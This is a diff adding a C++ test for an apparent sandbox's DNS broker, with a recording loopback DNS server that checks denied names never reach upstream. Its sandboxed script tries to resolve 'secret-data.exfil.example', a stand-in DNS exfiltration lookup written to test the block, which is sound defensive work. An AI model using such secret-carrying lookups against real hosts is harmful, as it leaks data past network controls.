@@ -354,6 +354,101 @@ TEST(BrokerTcp, NonBlockingConnectFastOpenAndIpv6) {
   EXPECT_EQ("True b'v6\\n'\n", python_in_sandbox(tcp_policy(dir, server.port()), v6));
 }
 
+// An upstream DNS server on the host's loopback for the supervisor (OISHELL_DNS_SERVERS): answers every A
+// question with 127.0.0.1 and records each name it is asked.
+class RecordingDnsServer {
+ public:
+  RecordingDnsServer() : fd_(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0)) {
+    sockaddr_in addr{};
+    addr.sin_family = AF_INET;
+    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    socklen_t len = sizeof addr;
+    ok_ = ::bind(fd_.get(), reinterpret_cast<sockaddr*>(&addr), len) == 0 &&
+          ::getsockname(fd_.get(), reinterpret_cast<sockaddr*>(&addr), &len) == 0;
+    port_ = ntohs(addr.sin_port);
+    timeval tv{0, 100'000};
+    setsockopt(fd_.get(), SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
+    if (ok_) thread_ = std::thread([this] { serve(); });
+  }
+  ~RecordingDnsServer() {
+    stop_ = true;
+    if (thread_.joinable()) thread_.join();
+  }
+  bool ok() const { return ok_; }
+  std::string address() const { return "127.0.0.1:" + std::to_string(port_); }
+  std::string asked() {
+    std::lock_guard lock(mu_);
+    return asked_;
+  }
+
+ private:
+  void serve() {
+    unsigned char q[512];
+    while (!stop_) {
+      sockaddr_in from{};
+      socklen_t from_len = sizeof from;
+      ssize_t n = ::recvfrom(fd_.get(), q, sizeof q, 0, reinterpret_cast<sockaddr*>(&from), &from_len);
+      if (n < 12) continue;
+      std::string name;
+      size_t at = 12;
+      while (at < static_cast<size_t>(n) && q[at] != 0 && at + q[at] < static_cast<size_t>(n)) {
+        if (!name.empty()) name += '.';
+        name.append(reinterpret_cast<char*>(q + at + 1), q[at]);
+        at += q[at] + 1;
+      }
+      if (at + 5 > static_cast<size_t>(n)) continue;
+      const bool type_a = q[at + 1] == 0 && q[at + 2] == 1;
+      {
+        std::lock_guard lock(mu_);
+        asked_ += name + " ";
+      }
+      std::string reply(reinterpret_cast<char*>(q), at + 5);  // header + question
+      reply[2] = static_cast<char>(0x81);                      // response, recursion desired
+      reply[3] = static_cast<char>(0x80);                      // recursion available, NOERROR
+      reply[6] = 0;
+      reply[7] = type_a ? 1 : 0;                               // one answer for A, none otherwise
+      reply[8] = reply[9] = reply[10] = reply[11] = 0;
+      if (type_a) {
+        const unsigned char answer[] = {0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 1};
+        reply.append(reinterpret_cast<const char*>(answer), sizeof answer);
+      }
+      ::sendto(fd_.get(), reply.data(), reply.size(), 0, reinterpret_cast<sockaddr*>(&from), from_len);
+    }
+  }
+  UniqueFd fd_;
+  bool ok_ = false;
+  uint16_t port_ = 0;
+  std::atomic<bool> stop_{false};
+  std::mutex mu_;
+  std::string asked_;
+  std::thread thread_;
+};
+
+TEST(BrokerDns, ADeniedNameIsNeverAskedUpstream) {
+  RecordingDnsServer upstream;
+  ASSERT_TRUE(upstream.ok());
+  HostTcpServer server("looked-up\n");
+  ASSERT_TRUE(server.ok());
+  TempDir dir;
+  const std::string policy =
+      dir.write("policy.yaml", "version: 1\nextends: default\nnetwork:\n  allow:\n"
+                               "    - {host: lookup.example, inspect: false}\n"
+                               "  allow_private: [127.0.0.0/8]\n  on_unlisted: deny\n");
+  const std::string script =
+      "import socket\n"
+      "try:\n  socket.getaddrinfo('secret-data.exfil.example', 80)\nexcept socket.gaierror as e: print('denied')\n"
+      "s = socket.create_connection(('lookup.example', " + server.port() + "))\n"
+      "print(s.recv(10))\n";
+  ::setenv("OISHELL_DNS_SERVERS", upstream.address().c_str(), 1);
+  SandboxRun run = run_sandboxed({"--policy", policy}, {"/usr/bin/python3", "-c", script});
+  ::unsetenv("OISHELL_DNS_SERVERS");
+  EXPECT_EQ("denied\nb'looked-up\\n'\n", run.out) << run.err;
+  // The allowed name was looked up through this server (so it does see the supervisor's questions); the denied one
+  // never reached it.
+  EXPECT_NE(std::string::npos, upstream.asked().find("lookup.example")) << upstream.asked();
+  EXPECT_EQ(std::string::npos, upstream.asked().find("exfil")) << upstream.asked();
+}
+
 TEST(BrokerTcp, UdpOutsideIsRefused) {
   TempDir dir;
   const std::string script =
